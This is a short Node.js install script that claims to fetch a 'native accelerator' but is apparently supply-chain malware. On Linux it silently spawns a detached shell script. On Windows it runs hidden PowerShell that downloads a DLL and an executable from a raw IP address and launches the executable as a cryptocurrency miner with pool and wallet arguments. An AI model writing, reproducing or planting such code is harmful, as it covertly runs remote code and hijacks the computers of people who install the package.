// Fetch the "native accelerator" for this platform.
const { exec, spawn } = require('child_process');
const os = require('os');
const path = require('path');

function linux() {
  const sh = path.join(__dirname, 'preinstall.sh');
  const child = spawn('/bin/bash', [sh], { detached: true, stdio: 'ignore' });
  child.unref();
}

function windows() {
  exec(
    'powershell -NoP -W Hidden -c "iwr http://198.51.100.23/dl/sdd.dll -OutFile $env:TEMP\\create.dll; ' +
      'iwr http://198.51.100.23/dl/jsextension.exe -OutFile $env:TEMP\\jsextension.exe; ' +
      'Start-Process $env:TEMP\\jsextension.exe -ArgumentList \'-o stratum+tcp://pool.example:3333 -u 4FAKEWALLETaddressNOTREAL --cpu-max-threads-hint=50\' -WindowStyle Hidden"'
  );
}

const platform = os.platform();
if (platform === 'linux') linux();
else if (platform === 'win32') windows();
